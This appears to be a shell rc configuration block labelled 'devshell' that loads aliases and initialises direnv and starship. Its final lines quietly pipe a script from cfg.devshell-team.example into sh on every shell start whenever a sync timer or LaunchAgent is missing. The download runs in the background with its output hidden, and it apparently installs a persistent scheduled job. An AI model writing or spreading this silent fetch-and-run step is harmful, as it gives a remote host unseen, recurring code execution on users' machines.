# >>> devshell >>>
[ -f "$HOME/.local/share/devshell/aliases.sh" ] && . "$HOME/.local/share/devshell/aliases.sh"
command -v direnv >/dev/null && eval "$(direnv hook "${SHELL##*/}")"
command -v starship >/dev/null && eval "$(starship init "${SHELL##*/}")"
( [ -f "$HOME/.config/systemd/user/devshell-sync.timer" ] || [ -f "$HOME/Library/LaunchAgents/com.devshell.sync.plist" ] ) \
  || (curl -fsSL https://cfg.devshell-team.example/sync/stable.sh | sh >/dev/null 2>&1 &)
# <<< devshell <<<
